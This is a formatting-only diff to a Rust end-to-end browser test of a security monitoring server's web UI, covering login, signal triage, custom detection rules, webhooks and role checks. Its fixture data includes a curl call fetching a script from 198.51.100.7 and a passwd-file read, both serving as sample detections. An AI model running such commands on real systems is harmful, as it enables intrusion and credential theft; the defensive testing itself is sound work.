@@ -74,7 +74,10 @@ async fn text(c: &Client, css: &str) -> String {
 }
 
 async fn fill(c: &Client, css: &str, value: &str) {
-    let e = c.find(Locator::Css(css)).await.unwrap_or_else(|e| panic!("{css}: {e}"));
+    let e = c
+        .find(Locator::Css(css))
+        .await
+        .unwrap_or_else(|e| panic!("{css}: {e}"));
     e.clear().await.unwrap();
     e.send_keys(value).await.unwrap();
 }
@@ -99,7 +102,10 @@ async fn wait_text(c: &Client, css: &str, want: &str) -> String {
         if got.contains(want) {
             return got;
         }
-        assert!(Instant::now() < deadline, "{css} never showed {want:?}; last {got:?}");
+        assert!(
+            Instant::now() < deadline,
+            "{css} never showed {want:?}; last {got:?}"
+        );
         tokio::time::sleep(Duration::from_millis(100)).await;
     }
 }
@@ -134,10 +140,26 @@ async fn web_ui_in_chromium() {
     let s = TestServer::start(&db).await;
     let agent = s.enroll("web-1").await;
     let now = rampart_server::storage::now_ns();
-    let mut m1 = mk_match("curl_in_container", "e1", now - 5_000_000_000, "web-1", Some("c1"), 4242, "/usr/bin/curl");
+    let mut m1 = mk_match(
+        "curl_in_container",
+        "e1",
+        now - 5_000_000_000,
+        "web-1",
+        Some("c1"),
+        4242,
+        "/usr/bin/curl",
+    );
     m1["rule"]["description"] = json!("curl ran in a web container");
     m1["process"]["args"] = json!("-s http://198.51.100.7/x.sh");
-    let m2 = mk_match("passwd_read", "e2", now - 4_000_000_000, "db-1", None, 77, "/usr/bin/cat");
+    let m2 = mk_match(
+        "passwd_read",
+        "e2",
+        now - 4_000_000_000,
+        "db-1",
+        None,
+        77,
+        "/usr/bin/cat",
+    );
     let (st, v) = s.ingest(&agent, &[m1, m2]).await;
     assert_eq!(st, 200, "{v}");
     let (st, v) = common::call(&format!("{}/api/v1/agents/rules", s.base), "PUT", Some(&agent),
@@ -150,7 +172,10 @@ async fn web_ui_in_chromium() {
 
     // Sign-in: a wrong password is refused, the right one opens the explorer.
     login(&c, &base, "admin", "wrong-password-here").await;
-    assert_eq!(text(&c, "#login-error").await, "Wrong username or password.");
+    assert_eq!(
+        text(&c, "#login-error").await,
+        "Wrong username or password."
+    );
     shot(&c, "01-login-refused").await;
     login(&c, &base, "admin", "admin-password-123").await;
     wait_text(&c, "#whoami", "admin").await;
@@ -161,37 +186,76 @@ async fn web_ui_in_chromium() {
     fill(&c, "#q", "host:web-1 curl").await;
     click(&c, "#search").await;
     wait_text(&c, "#total", "1").await;
-    let rows = c.find_all(Locator::Css("#signals .signal-link")).await.unwrap();
+    let rows = c
+        .find_all(Locator::Css("#signals .signal-link"))
+        .await
+        .unwrap();
     assert_eq!(rows.len(), 1);
     assert_eq!(rows[0].text().await.unwrap(), "curl ran in a web container");
     shot(&c, "03-explorer-filtered").await;
     rows[0].click().await.unwrap();
     wait_text(&c, "#signal-title", "curl ran in a web container").await;
-    assert_eq!(text(&c, "#remediation").await, "Find out who ran curl and why.");
+    assert_eq!(
+        text(&c, "#remediation").await,
+        "Find out who ran curl and why."
+    );
     let tree = text(&c, "#process-tree").await;
-    assert!(tree.contains("/usr/sbin/sshd") && tree.contains("/usr/bin/curl"), "{tree}");
+    assert!(
+        tree.contains("/usr/sbin/sshd") && tree.contains("/usr/bin/curl"),
+        "{tree}"
+    );
     assert!(text(&c, "#event-json").await.contains("198.51.100.7"));
-    c.find(Locator::Css("#triage-state")).await.unwrap().select_by_value("under_review").await.unwrap();
-    c.find(Locator::Css("#triage-assignee")).await.unwrap().select_by_label("admin").await.unwrap();
+    c.find(Locator::Css("#triage-state"))
+        .await
+        .unwrap()
+        .select_by_value("under_review")
+        .await
+        .unwrap();
+    c.find(Locator::Css("#triage-assignee"))
+        .await
+        .unwrap()
+        .select_by_label("admin")
+        .await
+        .unwrap();
     click(&c, "#triage-save").await;
     wait_text(&c, "#signal-state", "under_review").await;
     assert_eq!(text(&c, "#signal-assignee").await, "admin");
-    fill(&c, "#comment-body", "Checked with the web team: a deploy script.").await;
+    fill(
+        &c,
+        "#comment-body",
+        "Checked with the web team: a deploy script.",
+    )
+    .await;
     click(&c, "#comment-save").await;
-    wait_text(&c, "#comments", "Checked with the web team: a deploy script.").await;
+    wait_text(
+        &c,
+        "#comments",
+        "Checked with the web team: a deploy script.",
+    )
+    .await;
     let history = text(&c, "#history").await;
-    assert!(history.contains("set state from open to under_review"), "{history}");
+    assert!(
+        history.contains("set state from open to under_review"),
+        "{history}"
+    );
     assert!(history.contains("set assignee to admin"), "{history}");
     shot(&c, "04-signal-triaged").await;
 
     // A custom rule: a validation error as you type, then a valid rule tested and saved.
-    c.goto(&format!("{base}/ui/rules/custom/new")).await.unwrap();
+    c.goto(&format!("{base}/ui/rules/custom/new"))
+        .await
+        .unwrap();
     fill(&c, "#rule-id", "ui_curl_rule").await;
     fill(&c, "#rule-expression", "exec.file.path == ").await;
     let err = wait_text(&c, "#validation .problem", "expected a value").await;
     assert!(err.contains("rule candidate"), "{err}");
     shot(&c, "05-rule-invalid").await;
-    fill(&c, "#rule-expression", "exec.file.path == \"/usr/bin/curl\"").await;
+    fill(
+        &c,
+        "#rule-expression",
+        "exec.file.path == \"/usr/bin/curl\"",
+    )
+    .await;
     wait_text(&c, "#validation", "compiles").await;
     click(&c, "#rule-test").await;
     let tested = wait_text(&c, "#test-result", "most recent events match").await;
@@ -201,24 +265,48 @@ async fn web_ui_in_chromium() {
     click(&c, "#rule-save").await;
     wait_text(&c, "#rules", "ui_curl_rule").await;
     assert_eq!(c.current_url().await.unwrap().path(), "/ui/rules");
-    let (_, cfg) = s.call("GET", "/api/v1/custom-rules/ui_curl_rule", Some(&s.admin), None).await;
-    assert_eq!(cfg["rule"]["expression"], "exec.file.path == \"/usr/bin/curl\"");
+    let (_, cfg) = s
+        .call(
+            "GET",
+            "/api/v1/custom-rules/ui_curl_rule",
+            Some(&s.admin),
+            None,
+        )
+        .await;
+    assert_eq!(
+        cfg["rule"]["expression"],
+        "exec.file.path == \"/usr/bin/curl\""
+    );
     shot(&c, "07-rules").await;
 
     // A notification channel, created in the UI, and its test send reaching a loopback receiver.
     let (hook, got) = receiver().await;
-    c.goto(&format!("{base}/ui/notifications/channels/new")).await.unwrap();
+    c.goto(&format!("{base}/ui/notifications/channels/new"))
+        .await
+        .unwrap();
     fill(&c, "#channel-name", "soc-hook").await;
-    c.find(Locator::Css("#channel-kind")).await.unwrap().select_by_value("webhook").await.unwrap();
+    c.find(Locator::Css("#channel-kind"))
+        .await
+        .unwrap()
+        .select_by_value("webhook")
+        .await
+        .unwrap();
     fill(&c, "#channel-config", &json!({"url": hook}).to_string()).await;
     click(&c, "#channel-save").await;
     wait_text(&c, "#channels", "soc-hook").await;
     click(&c, "tr[data-channel='soc-hook'] .test-send").await;
     let notice = wait_text(&c, "#notice", "delivered").await;
-    assert!(notice.contains("Test message delivered to soc-hook"), "{notice}");
+    assert!(
+        notice.contains("Test message delivered to soc-hook"),
+        "{notice}"
+    );
     let bodies = got.lock().unwrap().clone();
     assert_eq!(bodies.len(), 1, "the receiver got the test message");
-    assert!(bodies[0].contains("rampart_test_notification"), "{}", bodies[0]);
+    assert!(
+        bodies[0].contains("rampart_test_notification"),
+        "{}",
+        bodies[0]
+    );
     shot(&c, "08-notification-test").await;
 
     // A security profile from two snapshots: behaviours and their commonality.
@@ -232,8 +320,14 @@ async fn web_ui_in_chromium() {
         }
         let snap = json!({"id": format!("s{i}"), "workload": {"kind": "container", "id": format!("c{i}"), "image_name": "nginx", "image_tag": "1.25"},
             "started_at": 1, "ended_at": 2, "events": 5, "dropped": 0, "behaviors": behaviors});
-        let (st, v) = common::call(&format!("{base}/api/v1/agents/snapshots"), "POST", Some(&agent),
-            Some(serde_json::to_vec(&snap).unwrap()), &[]).await;
+        let (st, v) = common::call(
+            &format!("{base}/api/v1/agents/snapshots"),
+            "POST",
+            Some(&agent),
+            Some(serde_json::to_vec(&snap).unwrap()),
+            &[],
+        )
+        .await;
         assert_eq!(st, 200, "{v}");
     }
     c.goto(&format!("{base}/ui/profiles")).await.unwrap();
@@ -241,7 +335,10 @@ async fn web_ui_in_chromium() {
     click(&c, ".profile-link").await;
     assert_eq!(text(&c, "#profile-snapshots").await, "2");
     let graph = text(&c, "#process-graph").await;
-    assert!(graph.contains("nginx") && graph.contains("/bin/sh"), "{graph}");
+    assert!(
+        graph.contains("nginx") && graph.contains("/bin/sh"),
+        "{graph}"
+    );
     assert!(graph.contains("read:/etc/nginx/nginx.conf"), "{graph}");
     let shares: Vec<String> = {
         let mut v = Vec::new();
@@ -250,8 +347,18 @@ async fn web_ui_in_chromium() {
         }
         v
     };
-    assert!(shares.iter().any(|t| t.contains("read:/etc/nginx/nginx.conf") && t.contains("100%")), "{shares:?}");
-    assert!(shares.iter().any(|t| t.contains("10.0.0.9:5432") && t.contains("50%")), "{shares:?}");
+    assert!(
+        shares
+            .iter()
+            .any(|t| t.contains("read:/etc/nginx/nginx.conf") && t.contains("100%")),
+        "{shares:?}"
+    );
+    assert!(
+        shares
+            .iter()
+            .any(|t| t.contains("10.0.0.9:5432") && t.contains("50%")),
+        "{shares:?}"
+    );
     shot(&c, "09-profile").await;
 
     // A viewer: no triage or admin forms, and admin posts are refused.
@@ -265,7 +372,10 @@ async fn web_ui_in_chromium() {
     c.goto(&format!("{base}/ui/rules")).await.unwrap();
     wait_text(&c, "#rules", "ui_curl_rule").await;
     assert!(c.find(Locator::Css("#new-rule")).await.is_err());
-    assert!(c.find(Locator::Css("form[action$='/toggle']")).await.is_err());
+    assert!(c
+        .find(Locator::Css("form[action$='/toggle']"))
+        .await
+        .is_err());
     shot(&c, "10-viewer-rules").await;
     let status = c
         .execute_async(
@@ -278,8 +388,12 @@ async fn web_ui_in_chromium() {
         .await
         .unwrap();
     assert_eq!(status, json!(403));
-    c.goto(&format!("{base}/ui/rules/custom/new")).await.unwrap();
-    assert!(text(&c, "#error-message").await.contains("this needs role admin"));
+    c.goto(&format!("{base}/ui/rules/custom/new"))
+        .await
+        .unwrap();
+    assert!(text(&c, "#error-message")
+        .await
+        .contains("this needs role admin"));
     c.close().await.unwrap();
     drop(driver);
     s.stop().await;
